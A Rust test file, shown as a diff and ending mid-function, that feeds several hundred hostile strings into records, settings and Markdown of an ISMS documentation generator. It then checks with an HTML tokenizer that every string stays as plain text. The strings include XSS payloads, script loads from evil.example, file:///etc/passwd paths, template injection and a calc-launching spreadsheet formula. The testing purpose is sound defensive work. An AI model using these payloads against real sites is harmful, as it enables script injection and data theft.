@@ -1,0 +1,775 @@
+//! Hostile texts in every place that authors write to: none reaches a page as markup, and each is kept as text.
+//!
+//! 1. Make the texts, by family ([`snippets`]), each with a word of its own.
+//! 2. Put them into fields of records, into front matter, and into Markdown: escaped, and raw.
+//! 3. Build, diagnostics or not, and read every page with the tokenizer of the HTML standard ([`Page`]).
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use html5gum::{DefaultEmitter, Token, Tokenizer};
+use ismsbook::artifact::Artifacts;
+use ismsbook::book::{Book, Clock};
+use ismsbook::files::Files;
+use rayon::prelude::*;
+
+/// What a text tries.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Family {
+    Element,
+    Event,
+    Break,
+    Scheme,
+    Svg,
+    Comment,
+    Template,
+    Fence,
+    Script,
+    Unicode,
+    Markdown,
+}
+
+#[derive(Debug)]
+struct Snippet {
+    family: Family,
+    /// The word by which it is found again; part of the text.
+    word: String,
+    text: String,
+}
+
+/// All texts: in each, `%` stands for a call with the word of the text.
+fn snippets() -> Vec<Snippet> {
+    let mut made = Vec::new();
+    let mut add = |family: Family, text: &str| {
+        let word = format!("pwn{:03}", made.len());
+        made.push(Snippet { family, text: text.replace('%', &format!("alert('{word}')")).replace('~', &word), word });
+    };
+    for text in ELEMENTS {
+        add(Family::Element, text);
+    }
+    for (index, event) in EVENTS.iter().enumerate() {
+        let element = ["img src=x", "body", "svg", "input autofocus", "details open", "video src=x", "a href=x", "div tabindex=1"][index % 8];
+        let quote = ["", "\"", "'"][index % 3];
+        add(Family::Event, &format!("<{element} {event}={quote}%{quote}>"));
+    }
+    for before in ["\"", "'", "`", "\">", "'>", "`>", "\"/", "\\\"", "&quot;", "&#34;", "\u{201d}", "\" \" ", "\"\t", "x\"\n"] {
+        for payload in ["onmouseover=\"%", "autofocus onfocus=% x=", "<img src=x onerror=%>", "style=\"x:expression(%)"] {
+            add(Family::Break, &format!("{before} {payload}"));
+        }
+    }
+    for scheme in SCHEMES {
+        add(Family::Scheme, scheme);
+    }
+    for text in SVG {
+        add(Family::Svg, text);
+    }
+    for text in COMMENTS {
+        add(Family::Comment, text);
+    }
+    for text in TEMPLATES {
+        add(Family::Template, text);
+    }
+    for text in FENCES {
+        add(Family::Fence, text);
+    }
+    for text in SCRIPTS {
+        add(Family::Script, text);
+    }
+    for text in UNICODE {
+        add(Family::Unicode, text);
+    }
+    for text in MARKDOWN {
+        add(Family::Markdown, text);
+    }
+    made
+}
+
+const ELEMENTS: &[&str] = &[
+    "<script>%</script>",
+    "<SCRIPT>%</SCRIPT>",
+    "<ScRiPt >%</sCrIpT >",
+    "<script/x>%</script>",
+    "<script\n>%</script\n>",
+    "<script\t>%</script>",
+    "<script src=//evil.example/~.js></script>",
+    "<script src=data:text/javascript,%></script>",
+    "<script type=module>%</script>",
+    "<script>%",
+    "<scr<script>ipt>%</scr</script>ipt>",
+    "<<script>%//<</script>",
+    "</script><script>%</script>",
+    "</title><script>%</script>",
+    "</textarea><script>%</script>",
+    "</style><script>%</script>",
+    "</noscript><script>%</script>",
+    "</table><script>%</script>",
+    "</td></tr></table><img src=x onerror=%>",
+    "</main></body></html><script>%</script>",
+    "</a><script>%</script>",
+    "</code></pre><script>%</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror=%>\">",
+    "<template><script>%</script></template>",
+    "<template shadowrootmode=open><script>%</script></template>",
+    "<iframe src=javascript:%>",
+    "<iframe srcdoc=\"<script>%</script>\">",
+    "<iframe/onload=%>",
+    "<frameset onload=%>",
+    "<frame src=javascript:%>",
+    "<object data=javascript:%>",
+    "<object data=data:text/html,<script>%</script>>",
+    "<embed src=javascript:%>",
+    "<applet code=~>",
+    "<base href=//evil.example/~/>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:%\">",
+    "<meta http-equiv=set-cookie content=~>",
+    "<link rel=stylesheet href=//evil.example/~.css>",
+    "<link rel=import href=//evil.example/~>",
+    "<link rel=preload as=script href=//evil.example/~>",
+    "<style>@import '//evil.example/~.css';</style>",
+    "<style>body{background:url(//evil.example/~)}</style>",
+    "<div style=\"background:url(javascript:%)\">",
+    "<div style=\"width:expression(%)\">",
+    "<div style=position:fixed;inset:0>~</div>",
+    "<form action=javascript:%><input type=submit>",
+    "<form id=~><button form=~ formaction=javascript:%>x",
+    "<input type=image src=x onerror=%>",
+    "<isindex action=javascript:% type=image>",
+    "<button formaction=javascript:%>x</button>",
+    "<select autofocus onfocus=%>",
+    "<textarea autofocus onfocus=%>",
+    "<keygen autofocus onfocus=%>",
+    "<marquee onstart=%>",
+    "<video><source onerror=%></video>",
+    "<video poster=javascript:%>",
+    "<audio src=x onerror=%>",
+    "<details open ontoggle=%>",
+    "<dialog open onclose=%>",
+    "<picture><source srcset=x><img onerror=% src=x></picture>",
+    "<img src=//evil.example/~.png>",
+    "<img src=x srcset=\"//evil.example/~ 2x\">",
+    "<img/src=x/onerror=%>",
+    "<img src=`x`onerror=%>",
+    "<IMG \"\"\"><SCRIPT>%</SCRIPT>\">",
+    "<a href=javascript:%>x</a>",
+    "<a href=\"jAvAsCrIpT:%\">x</a>",
+    "<a href=x ping=//evil.example/~>x</a>",
+    "<area href=javascript:%>",
+    "<bgsound src=javascript:%>",
+    "<layer src=//evil.example/~>",
+    "<xml id=~><x/></xml>",
+    "<plaintext>~",
+    "<xmp><script>%</script></xmp>",
+    "<listing>&lt;script&gt;%&lt;/script&gt;</listing>",
+    "<custom-element onclick=%>x</custom-element>",
+    "<details onclick=%><summary>x</summary></details>",
+    "<kbd onmouseover=%>x</kbd>",
+    "<ruby onclick=%>x<rt onclick=%>y</rt></ruby>",
+    "<abbr title='x' onclick=%>x</abbr>",
+    "<span lang=en onclick=%>x</span>",
+    "<span lang='\"><script>%</script>'>x</span>",
+    "<abbr title='\"><script>%</script>'>x</abbr>",
+    "<br onclick=%>",
+    "<kbd><script>%</script></kbd>",
+    "<details><summary><img src=x onerror=%></summary></details>",
+];
+
+const EVENTS: &[&str] = &[
+    "onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforeprint", "onbeforetoggle", "onbeforeunload",
+    "onblur", "oncanplay", "onchange", "onclick", "onclose", "oncontextmenu", "oncopy", "oncut", "ondblclick", "ondrag", "ondragend", "ondragenter", "ondrop", "onended",
+    "onerror", "onfocus", "onfocusin", "onfocusout", "onfullscreenchange", "ongotpointercapture", "onhashchange", "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup",
+    "onload", "onloadeddata", "onloadstart", "onmessage", "onmousedown", "onmouseenter", "onmouseover", "onmousewheel", "onpagehide", "onpageshow", "onpaste", "onplay",
+    "onpointerdown", "onpointerover", "onpopstate", "onprogress", "onreset", "onresize", "onscroll", "onsearch", "onselect", "onshow", "onsubmit", "ontimeupdate", "ontoggle",
+    "ontransitionend", "onunload", "onwheel", "ONCLICK", "OnLoad",
+];
+
+const SCHEMES: &[&str] = &[
+    "javascript:%",
+    "JAVASCRIPT:%",
+    "JaVaScRiPt:%",
+    " javascript:%",
+    "\tjavascript:%",
+    "\njavascript:%",
+    "java\tscript:%",
+    "java\nscript:%",
+    "java\rscript:%",
+    "javascript\t:%",
+    "javascript\n:%",
+    "javascript :%",
+    "javascript&colon;%",
+    "javascript&#58;%",
+    "javascript&#x3a;%",
+    "javascript&#x3A;%",
+    "javascript&#0000058%",
+    "&#106;avascript:%",
+    "&#x6A;avascript:%",
+    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a%",
+    "java&Tab;script:%",
+    "java&NewLine;script:%",
+    "java&#09;script:%",
+    "java&#10;script:%",
+    "java&#x0D;script:%",
+    "&#1;javascript:%",
+    "&#x200b;javascript:%",
+    "\u{1}javascript:%",
+    "\u{8}javascript:%",
+    "\u{1f}javascript:%",
+    "\u{a0}javascript:%",
+    "\u{200b}javascript:%",
+    "java\u{200b}script:%",
+    "java\u{ad}script:%",
+    "\u{feff}javascript:%",
+    "\u{2028}javascript:%",
+    "javascript\u{ff1a}%",
+    "\u{ff4a}avascript:%",
+    "javascript%3a%",
+    "%6aavascript:%",
+    "java%0ascript:%",
+    "javascript:/*--></title></style></script>*/%",
+    "javascript://evil.example/%0a%",
+    "javascript:x='http://good.example';%",
+    "x-javascript:%",
+    "livescript:%",
+    "mocha:%",
+    "vbscript:msgbox(\"~\")",
+    "VBScript:msgbox(\"~\")",
+    "vb\tscript:msgbox(\"~\")",
+    "vbscript&colon;~",
+    "data:text/html,<script>%</script>",
+    "data:text/html;base64,PHNjcmlwdD5~",
+    "DATA:text/html,~",
+    "data:text/html;charset=utf-7,+ADw-script+AD4-~",
+    "data:image/svg+xml,<svg onload=%>",
+    "data:image/svg+xml;base64,PHN2Zz4~",
+    "data:application/xhtml+xml,<x>~</x>",
+    "data:,~",
+    "data&colon;text/html,~",
+    "da\tta:text/html,~",
+    "file:///etc/passwd?~",
+    "FILE:///C:/Windows/~",
+    "blob:https://evil.example/~",
+    "filesystem:https://evil.example/~",
+    "view-source:javascript:%",
+    "jar:https://evil.example!/~",
+    "ftp://evil.example/~",
+    "ws://evil.example/~",
+    "wss://evil.example/~",
+    "about:blank#~",
+    "chrome://settings/~",
+    "ms-word:ofe|u|https://evil.example/~",
+    "search-ms:query=~",
+    "intent://~#Intent;scheme=http;end",
+    "res://ieframe.dll/~",
+    "mhtml:https://evil.example/~",
+    "feed:javascript:%",
+    "//evil.example/~",
+    "///evil.example/~",
+    "\\\\evil.example\\~",
+    "/\\evil.example/~",
+    "http:evil.example/~",
+    "https:\\\\evil.example\\~",
+    "../../../../etc/~",
+    "..%2f..%2f~",
+];
+
+const SVG: &[&str] = &[
+    "<svg onload=%>",
+    "<svg/onload=%>",
+    "<svg><script>%</script></svg>",
+    "<svg><script href=//evil.example/~.js /></svg>",
+    "<svg><script xlink:href=data:,% /></svg>",
+    "<svg><style><img src=x onerror=%></style></svg>",
+    "<svg><a xlink:href=javascript:%><text>x</text></a></svg>",
+    "<svg><a><animate attributeName=href values=javascript:% /><text>x</text></a></svg>",
+    "<svg><a><set attributeName=href to=javascript:% /></a></svg>",
+    "<svg><animate onbegin=% attributeName=x dur=1s>",
+    "<svg><animateTransform onbegin=%>",
+    "<svg><set onbegin=% attributename=x to=y>",
+    "<svg><foreignObject><script>%</script></foreignObject></svg>",
+    "<svg><foreignObject><iframe src=javascript:% /></foreignObject></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>%</script></svg>#x\"/></svg>",
+    "<svg><use xlink:href=//evil.example/~.svg#x /></svg>",
+    "<svg><image href=//evil.example/~ /></svg>",
+    "<svg><image href=x onerror=% /></svg>",
+    "<svg><desc><img src=x onerror=%></desc></svg>",
+    "<svg><title><img src=x onerror=%></title></svg>",
+    "<svg><p><style><g title=\"</style><img src=x onerror=%>\"></style></p></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=%>\">",
+    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>%</handler></svg>",
+    "<svg><feImage href=//evil.example/~ /></svg>",
+    "<svg><metadata onclick=%>x</metadata></svg>",
+    "<svg><![CDATA[><img src=x onerror=%>]]></svg>",
+    "<svg><!--<img src=x onerror=%>--></svg>",
+    "<math><mtext><script>%</script></mtext></math>",
+    "<math href=javascript:%>x</math>",
+    "<math xlink:href=javascript:%>x</math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:%>x</maction></math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=%></annotation-xml></math>",
+    "<math><mi//xlink:href=\"data:x,<script>%</script>\">",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=%&gt;\">",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=% src>\">",
+    "<math><mtext><mglyph><style><img src=x onerror=%></style></mglyph></mtext></math>",
+    "<math></br><style><a title=\"</style><img src=x onerror=%>\">",
+    "<svg></br><style><a title=\"</style><img src=x onerror=%>\">",
+];
+
+const COMMENTS: &[&str] = &[
+    "<!--<script>%</script>-->",
+    "<!--><script>%</script>-->",
+    "<!---><script>%</script>-->",
+    "<!--!><script>%</script>-->",
+    "<!-- --!><script>%</script>",
+    "<!-- -- ><script>%</script>-->",
+    "--><script>%</script><!--",
+    "--!><script>%</script>",
+    "<!--[if IE]><script>%</script><![endif]-->",
+    "<![if IE]><script>%</script><![endif]>",
+    "<![CDATA[<script>%</script>]]>",
+    "]]><script>%</script>",
+    "<?xml version=\"1.0\"?><script>%</script>",
+    "<?xml-stylesheet href=\"javascript:%\"?>",
+    "<?php echo '~' ?>",
+    "<?import namespace=~ implementation=//evil.example>",
+    "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/~\">]>&x;",
+    "<!ENTITY x \"<script>%</script>\">&x;",
+    "<!ELEMENT ~>",
+    "<!x><script>%</script>",
+    "</!><script>%</script>",
+    "</ ><script>%</script>",
+    "</x/><script>%</script>",
+    "<!-- ~",
+    "<! ~",
+];
+
+const TEMPLATES: &[&str] = &[
+    "{{ 7*7 }}~",
+    "{{ 'a' ~ '~' }}",
+    "{{ get_env(name='PATH') }}~",
+    "{{ __tera_context }}~",
+    "{{ page.title | safe }}~",
+    "{% raw %}~{% endraw %}",
+    "{% include 'base.html' %}~",
+    "{% import 'components.html' as c %}~",
+    "{% extends 'base.html' %}~",
+    "{% for i in range(end=1000000) %}~{% endfor %}",
+    "{% set x = '~' %}",
+    "{# ~ #}",
+    "{{ '</title><script>%</script>' | safe }}",
+    "{%- if true -%}~{%- endif -%}",
+    "{{ self.__class__ }}~",
+    "{{ config }}~",
+    "{{ ''.__class__.__mro__ }}~",
+    "${7*7}~",
+    "#{7*7}~",
+    "<%= 7*7 %>~",
+    "[[${7*7}]]~",
+    "{{constructor.constructor('%')()}}",
+    "{{ report('diagnostics') }}~",
+    "}}{{ 7*7 }}~{{",
+];
+
+const FENCES: &[&str] = &[
+    "\"><script>%</script>",
+    "x\" onclick=\"%",
+    "x' onclick='%",
+    "x onclick=%",
+    "rust\"><img src=x onerror=%>",
+    "<script>%</script>",
+    "&quot;&gt;&lt;script&gt;~",
+    "html' style='position:fixed' x='~",
+    "language-x\" id=\"~",
+    "../../../~",
+    "{.x onclick=%}",
+    "{#~ onclick=x}",
+    "=html <script>%</script>",
+    "{=html} ~",
+    "math\\def\\x{<img src=x onerror=%>}",
+    "mermaid %%{init: {'securityLevel': 'loose'}}%% ~",
+    "svg onload=%",
+    "javascript:%",
+    "x=~\"\"\"",
+    "c++\u{0085}onclick=%",
+];
+
+const SCRIPTS: &[&str] = &[
+    "';%//",
+    "\";%//",
+    "`;%//",
+    "${%}",
+    "\\';%//",
+    "\\\";%//",
+    "</script><script>%//",
+    "<\\/script><script>%//",
+    "<!--<script>~",
+    "\\u003cscript\\u003e%\\u003c/script\\u003e",
+    "\\x3cscript\\x3e%",
+    "\"}],\"x\":%//",
+    "'-%-'",
+    "\"+%+\"",
+    ");%//",
+    "*/%/*",
+    "__proto__~",
+    "constructor~",
+    "=cmd|' /C calc'!A0~",
+    "=HYPERLINK(\"http://evil.example/~\")",
+    "+~",
+    "@SUM(1)~",
+];
+
+const UNICODE: &[&str] = &[
+    "\u{ff1c}script\u{ff1e}%\u{ff1c}/script\u{ff1e}",
+    "\u{fe64}script\u{fe65}%",
+    "\u{2039}script\u{203a}%",
+    "\u{2028}<script>%</script>",
+    "\u{2029}<script>%</script>",
+    "\u{85}<script>%</script>",
+    "<scr\u{200b}ipt>%</scr\u{200b}ipt>",
+    "<scr\u{ad}ipt>%",
+    "<\u{17f}cript>%</\u{17f}cript>",
+    "<\u{ff53}cript>%",
+    "\u{202e}>tpircs<~",
+    "\u{2066}<b>\u{2069}~",
+    "\u{feff}<script>%</script>",
+    "\u{fffe}<script>%",
+    "\u{1f4a9}\"><script>%",
+    "<img src=x on\u{212a}eydown=%>",
+    "&lt;script&gt;%&lt;/script&gt;",
+    "&#60;script&#62;%",
+    "&#x3c;img src=x onerror=%&#x3e;",
+    "&ltimg src=x onerror=%&gt",
+    "+ADw-script+AD4-%",
+    "¼script¾%¼/script¾",
+    "%3Cscript%3E~",
+    "\u{0}<script>%</script>",
+];
+
+const MARKDOWN: &[&str] = &[
+    "[x](javascript:%)",
+    "[x](<javascript:%>)",
+    "[x](\"onclick=%)",
+    "[x](y 'z\" onclick=\"%')",
+    "![x](x\" onerror=\"%)",
+    "![\" onerror=\"%](x.png)",
+    "[x]: javascript:%",
+    "<javascript:%>",
+    "<x@y.z\"onclick=%>",
+    "[[R-1|<img src=x onerror=%>]]",
+    "[[\"><script>%</script>]]",
+    "[^~]: <script>%</script>",
+    "# <script>%</script>",
+    "`<script>%</script>`",
+    "```\n<script>%</script>\n```",
+    "| <script>%</script> |\n|---|",
+    "> [!NOTE]\n> <script>%</script>",
+    "https://evil.example/\"onclick=%",
+    "www.evil.example/\"><script>%</script>",
+    "\\<script>%\\</script>",
+    "x {onclick=%}",
+    "## x {#\"><script>%</script>}",
+    "## x {#~ .\"onclick=% onclick=x}",
+    "*<script>%</script>*",
+];
+
+/// Elements that the theme and the printer of documents write; nothing else may stand in a page.
+const MAY_STAND: &[&str] = &[
+    "a", "abbr", "article", "aside", "blockquote", "body", "br", "button", "caption", "circle", "code", "dd", "del", "desc", "details", "div", "dl", "dt", "em", "figcaption",
+    "figure", "footer", "form", "g", "h1", "h2", "h3", "h4", "h5", "h6", "head", "header", "hr", "html", "img", "input", "kbd", "label", "li", "line", "link", "main", "mark", "meta", "nav",
+    "noscript", "ol", "p", "path", "polyline", "pre", "rect", "rp", "rt", "ruby", "s", "script", "section", "span", "strong", "sub", "summary", "sup", "svg", "table", "tbody", "td",
+    "text", "tfoot", "th", "thead", "time", "title", "tr", "ul",
+];
+
+/// Attributes that they may have, beside `aria-…` and `data-…`.
+const MAY_HAVE: &[&str] = &[
+    "action", "alt", "autocomplete", "charset", "checked", "class", "colspan", "content", "d", "datetime", "dir", "disabled", "decoding", "fill", "focusable", "for", "height", "hidden", "href",
+    "hreflang", "http-equiv", "id", "lang", "loading", "maxlength", "media", "name", "open", "placeholder", "points", "preserveaspectratio", "rel", "role", "rowspan", "scope", "spellcheck",
+    "src", "start", "tabindex", "target", "text-anchor", "title", "transform", "type", "value", "viewbox", "width", "x", "x1", "x2", "xmlns", "y", "y1", "y2", "r", "rx", "cx", "cy",
+    "stroke", "stroke-width", "download",
+];
+
+/// A page as a browser reads it.
+#[derive(Default)]
+struct Page {
+    /// What may not stand in it.
+    faults: Vec<String>,
+    /// All text and all values of attributes.
+    words: String,
+}
+
+impl Page {
+    fn read(bytes: &[u8]) -> Self {
+        let mut page = Self::default();
+        let mut emitter = DefaultEmitter::default();
+        emitter.naively_switch_states(true);
+        let mut inside = String::new();
+        for token in Tokenizer::new_with_emitter(bytes, emitter) {
+            let Ok(token) = token;
+            match token {
+                Token::StartTag(tag) => {
+                    let name = text(&tag.name);
+                    if !MAY_STAND.contains(&name.as_str()) {
+                        page.faults.push(format!("element <{name}>"));
+                    }
+                    let attributes: BTreeMap<_, _> = tag.attributes.iter().map(|(name, value)| (text(name), text(value))).collect();
+                    for (attribute, value) in &attributes {
+                        page.attribute(&name, attribute, value);
+                    }
+                    if name == "script" && !attributes.get("src").is_some_and(|src| is_theme_script(src)) {
+                        page.faults.push(format!("script {attributes:?}"));
+                    }
+                    inside = name;
+                }
+                Token::EndTag(_) => inside.clear(),
+                Token::String(string) => {
+                    let string = text(&string);
+                    if matches!(inside.as_str(), "script" | "style") && !string.trim().is_empty() {
+                        page.faults.push(format!("text in <{inside}>: {string:.80}"));
+                    }
+                    page.words.push_str(&string);
+                    page.words.push('\u{1}');
+                }
+                Token::Comment(comment) => page.faults.push(format!("comment {:.80}", text(&comment))),
+                Token::Doctype(_) => {}
+                // A control character that an author wrote is shown as what it is; it opens and closes nothing.
+                Token::Error(error) if error.to_string().ends_with("-in-input-stream") || error.to_string() == "unexpected-null-character" => {}
+                Token::Error(error) => page.faults.push(format!("syntax: {}", *error)),
+            }
+        }
+        page
+    }
+
+    fn attribute(&mut self, element: &str, attribute: &str, value: &str) {
+        let known = MAY_HAVE.contains(&attribute) || attribute.starts_with("aria-") || attribute.starts_with("data-");
+        if !known {
+            self.faults.push(format!("attribute {attribute} of <{element}>"));
+        }
+        // As browsers do: control characters and blanks do not count.
+        let address: String = value.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect::<String>().to_lowercase();
+        let scheme = address.split(['/', '?', '#']).next().and_then(|first| first.split_once(':')).map(|(scheme, _)| scheme.to_owned());
+        match attribute {
+            "href" | "action" if scheme.as_deref().is_some_and(|scheme| !matches!(scheme, "http" | "https" | "mailto" | "tel")) => {
+                self.faults.push(format!("{attribute} of <{element}>: {value}"));
+            }
+            "src" if scheme.is_some() => self.faults.push(format!("src of <{element}>: {value}")),
+            "href" | "src" | "action" if address.starts_with("//") || address.starts_with("\\\\") || address.starts_with("/\\") => {
+                self.faults.push(format!("{attribute} of <{element}>: {value}"));
+            }
+            "href" if element == "link" && scheme.is_some() => self.faults.push(format!("href of <link>: {value}")),
+            _ => {}
+        }
+        self.words.push_str(value);
+        self.words.push('\u{1}');
+    }
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8(bytes.to_vec()).expect("pages are UTF-8")
+}
+
+/// `assets/site-1d227909d7.js`, from any depth.
+fn is_theme_script(src: &str) -> bool {
+    let path = src.trim_start_matches("../");
+    path.strip_prefix("assets/").and_then(|name| name.strip_suffix(".js")).is_some_and(|name| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
+}
+
+const BOOK: &str = "[book]\nid = \"b\"\ntitle = \"本\"\norganization = \"会社\"\n";
+
+/// Compiles and builds, whatever the diagnostics say.
+fn build(files: Vec<(String, String)>) -> (Book, Artifacts) {
+    let mut all = vec![("book.toml".to_owned(), BOOK.to_owned())];
+    all.retain(|(path, _)| files.iter().all(|(given, _)| given != path));
+    all.extend(files);
+    let mut files = Files::from_texts(all);
+    files.has_config = true;
+    let book = Book::compile(files, Vec::new(), "b", &Clock::default());
+    let site = book.site().unwrap_or_else(|said| panic!("{said:#?}"));
+    (book, site)
+}
+
+/// Reads all pages and asserts that nothing hostile stands in them; gives what they say, by path.
+fn scan(site: &Artifacts) -> BTreeMap<String, String> {
+    let pages: Vec<_> = site.iter().filter(|(path, _)| path.ends_with(".html")).collect();
+    let read: Vec<_> = pages.into_par_iter().map(|(path, bytes)| (path.to_owned(), Page::read(bytes))).collect();
+    let faults: Vec<_> = read.iter().flat_map(|(path, page)| page.faults.iter().map(move |fault| format!("{path}: {fault}"))).collect();
+    assert!(faults.is_empty(), "{} faults\n{}", faults.len(), faults[..faults.len().min(60)].join("\n"));
+    for (path, bytes) in site.iter() {
+        let inside_tree = path.split('/').all(|part| !part.is_empty() && part != ".." && part != ".");
+        assert!(inside_tree && !path.contains(['<', '>', '"', '\'', '\\', ':', '\n']), "path {path:?}");
+        if path.ends_with(".js") {
+            let script = String::from_utf8_lossy(bytes);
+            assert!(!script.contains("pwn") || !script.contains('<'), "{path} holds markup");
+        }
+        if path.ends_with(".json") {
+            serde_json::from_slice::<serde_json::Value>(bytes).unwrap_or_else(|error| panic!("{path} is no JSON: {error}"));
+        }
+    }
+    read.into_iter().map(|(path, page)| (path, page.words)).collect()
+}
+
+/// A text without what neither YAML nor HTML hand on unchanged: line ends and characters that HTML has no way to write.
+fn comparable(text: &str) -> String {
+    text.chars().filter(|c| !c.is_control() && !c.is_whitespace() && !matches!(c, '\u{fffd}' | '\u{fffe}' | '\u{feff}')).collect()
+}
+
+fn assert_kept(words: &str, snippet: &Snippet, place: &str) {
+    assert!(comparable(words).contains(&comparable(&snippet.text)), "{place}: {:?} ({:?}) is not kept as text", snippet.text, snippet.family);
+}
+
+/// A YAML value in double quotes.
+fn quoted(text: &str) -> String {
+    serde_json::to_string(text).expect("a text is JSON").replace('\u{7f}', "\\u007f").replace('\u{85}', "\\u0085").replace('\u{feff}', "\\ufeff").replace('\u{fffe}', "\\ufffe")
+}
+
+#[test]
+fn there_are_enough_and_each_is_another() {
+    let snippets = snippets();
+    assert!(snippets.len() >= 400, "{}", snippets.len());
+    let different: BTreeSet<_> = snippets.iter().map(|snippet| snippet.text.replace(&snippet.word, "")).collect();
+    assert!(different.len() >= 400, "{}", different.len());
+}
+
+#[test]
+fn fields_of_records_stay_text() {
+    let snippets = snippets();
+    let mut yaml = String::from("roles:\n  - {id: role-a, title: 管理者}\nassessments:\n  - {id: RA-1, kind: regular, on: 2026-06-01, method: README, participants: [role-a]}\n");
+    let mut kinds: [(&str, String); 6] = ["assets", "risks", "evidence", "suppliers", "interested_parties", "findings"].map(|kind| (kind, String::new()));
+    for (number, snippet) in snippets.iter().enumerate() {
+        let t = quoted(&snippet.text);
+        let both = format!("{{ja: {t}, en: {t}}}");
+        let records = [
+            format!("{{id: AST-{number}, title: {t}, owner: role-a, kind: {t}, label: {t}, values: {{c: 1, i: 1, a: 1}}, medium: {t}, place: {t}, retention: {t}, disposal: {t}, topics: [{t}], note: {t}}}"),
+            format!(
+                "{{id: R-{number}, title: {both}, owner: role-a, cause: {t}, event: {t}, consequence: {t}, assessed: {{round: RA-1, on: 2026-06-10, by: [role-a]}}, inherent: {{likelihood: 2, impact: 2}}, \
+                 current: {{likelihood: 1, impact: 1}}, treatment: {{option: retain, reason: {t}, actions: [{{what: {t}, owner: role-a, due: 2027-01-01}}], plan_approved: {{by: role-a, on: 2026-06-11, ref: {t}}}}}, note: {t}}}"
+            ),
+            format!("{{id: EV-{number}, title: {t}, kind: {t}, shows: [A.5.1], owner: role-a, where: {t}, instances: [{{on: 2026-06-01, ref: {t}}}]}}"),
+            format!("{{id: SUP-{number}, name: {both}, kind: cloud, services_used: [{t}], subprocessors: [{t}], note: {t}}}"),
+            format!("{{id: IP-{number}, name: {t}, needs: [{{what: {t}, addressed: true, how: {t}}}]}}"),
+            format!("{{id: F-{number}, source: self, class: minor, clause: 27001:10.2, statement: {t}, owner: role-a, cause: {t}, actions: []}}"),
+        ];
+        for ((_, list), record) in kinds.iter_mut().zip(records) {
+            list.push_str(&format!("  - {record}\n"));
+        }
+    }
+    for (kind, list) in &kinds {
+        yaml.push_str(&format!("{kind}:\n{list}"));
+    }
+    let (book, site) = build(vec![("content/README.md".to_owned(), "# 表紙\n".to_owned()), ("content/r.yaml".to_owned(), yaml)]);
+    assert_eq!(book.diagnostics, [], "the texts are no mistakes");
+    let pages = scan(&site);
+    for (number, snippet) in snippets.iter().enumerate() {
+        for (kind, prefix) in [("assets", "AST"), ("risks", "R"), ("evidence", "EV"), ("suppliers", "SUP"), ("interested_parties", "IP"), ("findings", "F")] {
+            let path = format!("{kind}/{prefix}-{number}.html");
+            let words = pages.get(&path).unwrap_or_else(|| panic!("{path} was not built"));
+            assert_kept(words, snippet, &path);
+        }
+    }
+}
+
+#[test]
+fn settings_and_answers_stay_text() {
+    let all = snippets();
+    let chosen: Vec<_> = all.iter().step_by(17).collect();
+    let joined = chosen.iter().map(|snippet| snippet.text.as_str()).collect::<Vec<_>>().join(" ");
+    let settings = format!("[book]\nid = \"b\"\ntitle = {0}\norganization = {0}\n[risk]\nlikelihood = [{0}, \"x\"]\nimpact = [{0}, \"y\"]\nvalue = \"product\"\nlevels = [{{up_to = 4, name = {0}}}]\nacceptable = 1\n", quoted(&joined));
+    let t = quoted(&joined);
+    let yaml = format!(
+        "services:\n  - {{id: s, name: {t}, not_names: [{t}], model: SaaS, kind: cloud-service, parties: [csp], uses_none: {t}, infrastructure: own, activities: [{{what: {t}, roles: []}}]}}\n\
+         soa:\n  - number: {t}\n    version: {t}\n    history: [{{version: {t}, on: 2026-01-01, change: {t}}}]\n    decisions:\n      - {{control: A.5.1, status: implemented, how: {t}, reasons: [{{practice: {t}}}]}}\n      - {{control: A.5.2, exclude: {t}}}\n\
+         \x20 - service: s\n    decisions:\n      - {{control: 27017:12.3.1, csp: {{status: implemented, how: {t}, disclose: {{scope: {t}}}}}}}\n"
+    );
+    let (_, site) = build(vec![("book.toml".to_owned(), settings), ("content/README.md".to_owned(), "# 表紙\n".to_owned()), ("content/r.yaml".to_owned(), yaml)]);
+    let pages = scan(&site);
+    for snippet in chosen {
+        for path in ["index.html", "services/s.html", "reports/soa.html", "reports/soa-s.html"] {
+            assert_kept(&pages[path], snippet, path);
+        }
+    }
+}
+
+/// Every mark of ASCII behind a backslash, line ends as blanks: Markdown that means the text itself.
+fn escaped(text: &str) -> String {
+    text.chars().fold(String::new(), |mut out, c| {
+        if c.is_ascii_punctuation() {
+            out.push('\\');
+        }
+        out.push(if matches!(c, '\n' | '\r' | '\t' | '\0' | '\u{2028}' | '\u{2029}' | '\u{85}') { ' ' } else { c });
+        out
+    })
+}
+
+#[test]
+fn documents_keep_what_is_escaped() {
+    let snippets = snippets();
+    let mut files = vec![("content/README.md".to_owned(), "# 表紙\n".to_owned())];
+    for (number, snippet) in snippets.iter().enumerate() {
+        let (t, e) = (quoted(&snippet.text), escaped(&snippet.text));
+        let ticks = "`".repeat(5);
+        let body = snippet.text.replace(['\0', '\r'], " ");
+        let info = body.replace(['\n', '`'], " ");
+        files.push((
+            format!("content/d{number}.md"),
+            format!(
+                "---\nid: D-{number}\ntitle: {t}\nnumber: {t}\nversion: {t}\ndistribution: {t}\nretention: {t}\ntopics: [{t}]\nhistory: [{{version: {t}, on: 2026-01-01, change: {t}}}]\n---\n\
